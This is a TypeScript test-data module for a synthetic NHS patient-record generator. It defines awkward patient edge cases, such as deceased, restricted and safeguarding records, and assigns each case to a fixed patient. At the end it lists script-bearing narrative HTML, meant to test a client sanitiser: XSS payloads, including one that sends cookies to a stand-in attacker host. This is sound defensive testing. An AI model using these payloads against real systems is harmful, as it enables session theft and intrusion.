// The awkward patients the client must cope with, chosen on purpose and listed by NHS number.
// Each case is forced on one fixed patient among the first hundred, and also occurs at a natural rate.

/** NHS numbers of patients deliberately made to be each case (each list non-empty once patients >= 100). */
export interface EdgeCases {
  /** Registered with a GP in one ICB, address in another ICB's district. */
  readonly livesInOtherIcb: readonly string[];
  /** Same person (same NHS number) in two ICBs' records, different resource ids and partly different content. */
  readonly inTwoIcbRecords: readonly string[];
  /** Patient.deceasedDateTime set. */
  readonly deceased: readonly string[];
  /** Patient.meta.security R (restricted) from v3-Confidentiality. */
  readonly restricted: readonly string[];
  /** Very long records (hundreds of resources). */
  readonly longRecord: readonly string[];
  /** AllergyIntolerance 716186003 "No known allergy". */
  readonly noKnownAllergies: readonly string[];
  /** Living in the west ICB (outside demoCrewArea). */
  readonly outOfArea: readonly string[];
  readonly dnacpr: readonly string[];
  readonly respect: readonly string[];
  readonly endOfLife: readonly string[];
  readonly safeguarding: readonly string[];
  readonly nonLatinName: readonly string[];
  /** A narrative `text.div` holding script-bearing HTML, to exercise the client's sanitiser. */
  readonly unsafeNarrative: readonly string[];
}

export type EdgeCaseName = keyof EdgeCases;

export const edgeCaseNames: readonly EdgeCaseName[] = [
  'livesInOtherIcb',
  'inTwoIcbRecords',
  'deceased',
  'restricted',
  'longRecord',
  'noKnownAllergies',
  'outOfArea',
  'dnacpr',
  'respect',
  'endOfLife',
  'safeguarding',
  'nonLatinName',
  'unsafeNarrative',
];

/** Which patient index (0-99) is forced into each case; one patient per case so the cases do not mix. */
const forcedIndex: Readonly<Record<EdgeCaseName, number>> = {
  livesInOtherIcb: 7,
  inTwoIcbRecords: 11,
  deceased: 17,
  restricted: 23,
  longRecord: 29,
  noKnownAllergies: 31,
  outOfArea: 37,
  dnacpr: 41,
  respect: 43,
  endOfLife: 47,
  safeguarding: 53,
  nonLatinName: 59,
  unsafeNarrative: 61,
};

export function isForced(name: EdgeCaseName, patientIndex: number): boolean {
  return forcedIndex[name] === patientIndex;
}

/** Gathers NHS numbers per case in first-seen order, each number once even when a person has two records. */
export class EdgeCaseCollector {
  private readonly lists = new Map<EdgeCaseName, Set<string>>(
    edgeCaseNames.map((name) => [name, new Set<string>()]),
  );

  add(nhsNumber: string, names: readonly EdgeCaseName[]): void {
    for (const name of names) this.lists.get(name)?.add(nhsNumber);
  }

  result(): EdgeCases {
    const list = (name: EdgeCaseName): string[] => [...(this.lists.get(name) ?? [])];
    return {
      livesInOtherIcb: list('livesInOtherIcb'),
      inTwoIcbRecords: list('inTwoIcbRecords'),
      deceased: list('deceased'),
      restricted: list('restricted'),
      longRecord: list('longRecord'),
      noKnownAllergies: list('noKnownAllergies'),
      outOfArea: list('outOfArea'),
      dnacpr: list('dnacpr'),
      respect: list('respect'),
      endOfLife: list('endOfLife'),
      safeguarding: list('safeguarding'),
      nonLatinName: list('nonLatinName'),
      unsafeNarrative: list('unsafeNarrative'),
    };
  }
}

/** Script-bearing narratives that look harmless in a list: a sanitiser must strip every active part. */
export const unsafeNarratives: readonly string[] = [
  '<div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)>Prefers to be called by first name.</div>',
  '<div xmlns="http://www.w3.org/1999/xhtml"><p>Key safe code with daughter.</p><script>alert(document.cookie)</script></div>',
  '<div xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">See care plan</a></div>',
  '<div xmlns="http://www.w3.org/1999/xhtml"><svg onload="fetch(\'https://attacker.invalid/\'+document.cookie)"></svg>Lives alone.</div>',
  '<div xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe><b>Dog in house.</b></div>',
];
